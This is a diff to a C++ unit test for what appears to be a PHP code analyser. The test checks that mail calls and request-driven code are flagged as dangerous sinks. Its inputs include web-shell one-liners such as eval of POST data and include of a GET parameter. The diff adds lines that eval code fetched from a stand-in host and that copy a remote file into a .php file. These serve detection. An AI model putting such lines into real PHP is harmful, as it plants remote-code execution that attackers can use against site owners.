@@ -49,7 +49,10 @@ TEST(Triggers, MailAndRequestDrivenCodeOpenTheFlow) {
        {"<?php mail($a, $b, $c);", "<?php @MAIL ($a);", "<?php $m->addAddress($x);",
         "<?php $f = fsockopen($h, 25);", "<?php eval($_POST['x']);",
         "<?php $_GET['f']($_GET['x']);", "<?php move_uploaded_file($_FILES['f']['tmp_name'], $p);",
-        "<?php include($_GET['p']);", "<?php $f = 'mail'; $f($a);"})
+        "<?php include($_GET['p']);", "<?php $f = 'mail'; $f($a);",
+        "<?php eval(file_get_contents('https://a.example/b'));",
+        "<?php $url = \"http://a.example/b\"; copy($url, 'c.php');",
+        "<?php fwrite($f, base64_decode($x));"})
     EXPECT_TRUE(triggers_of(raw).sinks) << raw;
 }
 
